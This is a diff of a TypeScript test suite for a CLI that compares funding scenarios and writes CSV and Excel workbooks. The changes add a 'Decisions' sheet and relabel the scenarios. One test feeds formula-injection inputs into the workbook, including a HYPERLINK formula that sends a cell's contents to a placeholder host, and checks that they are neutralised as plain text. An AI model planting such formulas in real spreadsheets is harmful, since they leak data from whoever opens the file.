@@ -33,7 +33,8 @@ function compareJson(plan: Plan, ids: string[]) {
   if (!validation.ok) throw new Error('demo plan invalid');
   const results = ids.map((id) => simulate(validation.scenarios.find((s) => s.id === id)!));
   return {
-    compared: JSON.parse(JSON.stringify(comparisonJson(plan.name, compare(results)))) as ReturnType<typeof comparisonJson>,
+    // The headline FY (the plan's next cliff edge, 2021/22) has an at-risk row of its own.
+    compared: JSON.parse(JSON.stringify(comparisonJson(plan.name, compare(results, 2021)))) as ReturnType<typeof comparisonJson>,
     simulated: JSON.parse(JSON.stringify(simulationJson(plan.name, results))) as ReturnType<typeof simulationJson>,
   };
 }
@@ -61,7 +62,7 @@ describe('the comparison workbook of the demo plan (flat-june against cut-25-jun
   });
 
   it('has the four sheets, each titled with the plan, the scenarios and the date, header frozen', () => {
-    expect(book.worksheets.map((s) => s.name)).toEqual(['Summary', 'Years', 'Interventions', 'Monthly']);
+    expect(book.worksheets.map((s) => s.name)).toEqual(['Summary', 'Years', 'Interventions', 'Decisions', 'Monthly']);
     for (const sheet of book.worksheets) {
       expect(sheet.getCell('A1').value).toBe('West Midlands VRU: 2021/22 cliff edge');
       expect(String(sheet.getCell('A2').value)).toContain(
@@ -79,9 +80,9 @@ describe('the comparison workbook of the demo plan (flat-june against cut-25-jun
     expect(sheet.getRow(5).values).toEqual([
       ,
       'Measure',
-      'Flat grant, confirmed in June [flat-june]',
-      '25% cut, confirmed in June [cut-25-june]',
-      'cut-25-june − flat-june',
+      'Flat grant, confirmed in June',
+      '25% cut, confirmed in June',
+      '25% cut, confirmed in June − Flat grant, confirmed in June',
     ]);
     json.compared.totals.forEach((row, i) => {
       const cells = sheet.getRow(6 + i);
@@ -116,12 +117,50 @@ describe('the comparison workbook of the demo plan (flat-june against cut-25-jun
     expect(sheet.getCell('C6').numFmt).toBe(MONEY_FORMAT);
   });
 
-  it('Interventions: the outcome matrix, the rows that differ first', () => {
+  it('Interventions: each service in each scenario under its name, the rows that differ first', () => {
     const sheet = book.getWorksheet('Interventions')!;
+    expect(sheet.getCell('C5').value).toBe('Flat grant, confirmed in June');
+    expect(sheet.getCell('M5').value).toBe('25% cut, confirmed in June');
+    const labels = ['Outcome', 'Notice deadline', 'Notice served', 'Last month', 'Run-on', 'Exit cost'];
+    expect((sheet.getRow(6).values as unknown[]).slice(3, 9)).toEqual(labels);
+    expect((sheet.getRow(6).values as unknown[]).slice(9, 13)).toEqual([
+      'People moved',
+      'People losing support',
+      'Partner',
+      'Handover month',
+    ]);
     json.compared.interventions.forEach((row, i) => {
-      expect(sheet.getRow(6 + i).values).toEqual([, row.name, row.id, ...row.outcomes, row.differs ? 'yes' : 'no']);
+      const cells = sheet.getRow(7 + i);
+      expect([cells.getCell(1).value, cells.getCell(2).value]).toEqual([row.name, row.id]);
+      expect([cells.getCell(3).value, cells.getCell(13).value]).toEqual(row.outcomes);
+      expect(cells.getCell(23).value).toBe(row.differs ? 'yes' : 'no');
+      const result = json.simulated.scenarios[1].interventions.find((r) => r.id === row.id)!;
+      expect([14, 15, 16, 17, 18, 19, 20, 21, 22].map((c) => cells.getCell(c).value)).toEqual([
+        result.noticeDeadline,
+        result.noticeServed,
+        result.lastMonth,
+        result.runOn,
+        result.exitCost,
+        result.usersMoved,
+        result.usersLosingSupport,
+        result.partner,
+        result.handoverMonth,
+      ]);
     });
-    expect(sheet.getCell('D6').value).toBe('closes 2021-07');
+    expect(sheet.getCell('M7').value).toBe('closes 2021-07');
+  });
+
+  it('Decisions: every notice deadline in date order, with what each scenario does there', () => {
+    const sheet = book.getWorksheet('Decisions')!;
+    const rows: unknown[][] = [];
+    for (let r = 6; sheet.getRow(r).getCell(1).value !== null; r++) rows.push((sheet.getRow(r).values as unknown[]).slice(1));
+    const deadlines = rows.map((r) => String(r[0]));
+    expect(deadlines).toEqual([...deadlines].sort());
+    expect(rows[0]).toEqual(expect.arrayContaining(['already passed when the plan starts']));
+    const youth = rows.find((r) => r[1] === '2021/22' && r[2] === 'Mentors in Violence Prevention')!;
+    expect(youth[0]).toBe('2021-03');
+    expect(youth[4]).toBe('Continues (decided 2021-06)');
+    expect(String(youth[5])).toMatch(/^Closes: decided 2021-06, notice served 2021-06, last month 2021-06/);
   });
 
   it('Monthly: funding, spend and partner for each scenario, in pounds exact to the penny', () => {
@@ -176,8 +215,8 @@ describe('formula-looking text from the plan', () => {
     const summary = book.getWorksheet('Summary')!;
     expect(summary.getCell('A1').value).toBe(`'${plan.name}`);
     expect(summary.getCell('A1').type).toBe(ExcelJS.ValueType.String);
-    expect(summary.getCell('B5').value).toBe(`'${plan.scenarios![1].name} [flat-june]`);
-    expect(summary.getCell('C5').value).toBe(`'${plan.scenarios![2].name} [cut-25-june]`);
+    expect(summary.getCell('B5').value).toBe(`'${plan.scenarios![1].name}`);
+    expect(summary.getCell('C5').value).toBe(`'${plan.scenarios![2].name}`);
     const names = book.getWorksheet('Interventions')!.getColumn(1).values as unknown[];
     expect(names).toContain("'-2+3");
     expect(names).toContain("'\tTabbed");
@@ -192,7 +231,7 @@ describe('formula-looking text from the plan', () => {
     // And in the raw XML: no <f> element on any sheet.
     const entries = readZipDirectory(bytes);
     const sheets = entries.filter((e) => /^xl\/worksheets\/sheet\d+\.xml$/.test(e.name));
-    expect(sheets).toHaveLength(4);
+    expect(sheets).toHaveLength(5);
     for (const sheet of sheets) expect(rawPart(bytes, sheet.name)).not.toMatch(/<f[ >]/);
     expect(rawPart(bytes, 'xl/sharedStrings.xml')).toContain(
       '&apos;=HYPERLINK(&quot;http://example.invalid/?x=&quot;&amp;A1,&quot;Click&quot;)',
@@ -270,7 +309,7 @@ describe('headroom compare with files', () => {
     const validation = validatePlan(demo());
     if (!validation.ok) throw new Error('demo invalid');
     const results = IDS.map((id) => simulate(validation.scenarios.find((s) => s.id === id)!));
-    expect(table.out).toEqual([comparisonText(demo().name, compare(results))]);
+    expect(table.out).toEqual([comparisonText(demo().name, compare(results, 2021))]);
     const json = capture();
     expect(await runCli(['compare', demoPath, '--scenario', 'flat-june', '--scenario', 'cut-25-june', '--json'], json.io)).toBe(0);
     expect(JSON.parse(json.out[0])).toEqual(compareJson(demo(), IDS).compared);
@@ -286,10 +325,12 @@ describe('headroom compare with files', () => {
         run.io,
       ),
     ).toBe(0);
-    expect(run.out[0]).toMatch(/^Section,FY,Item,flat-june,cut-25-june,/);
+    expect(run.out[0]).toMatch(/^Section,FY,Item,"Flat grant, confirmed in June","25% cut, confirmed in June",/);
     expect(run.err).toHaveLength(2);
-    expect(run.err[0]).toMatch(/^Wrote .*compare\.csv \(3\.\d KB\) in \d+ ms$/);
-    expect(run.err[1]).toMatch(/^Wrote .*compare\.xlsx \(4 sheets: Summary, Years, Interventions, Monthly; \d+\.\d KB\) in [\d.]+ m?s$/);
+    expect(run.err[0]).toMatch(/^Wrote .*compare\.csv \(\d+\.\d KB\) in \d+ ms$/);
+    expect(run.err[1]).toMatch(
+      /^Wrote .*compare\.xlsx \(5 sheets: Summary, Years, Interventions, Decisions, Monthly; \d+\.\d KB\) in [\d.]+ m?s$/,
+    );
     expect(readFileSync(csv, 'utf8').trimEnd()).toBe(run.out[0]);
     const book = await readBack(readFileSync(xlsx));
     expect(book.getWorksheet('Summary')!.getCell('B6').value).toBe(compareJson(demo(), IDS).compared.totals[0].values[0]! / 100);
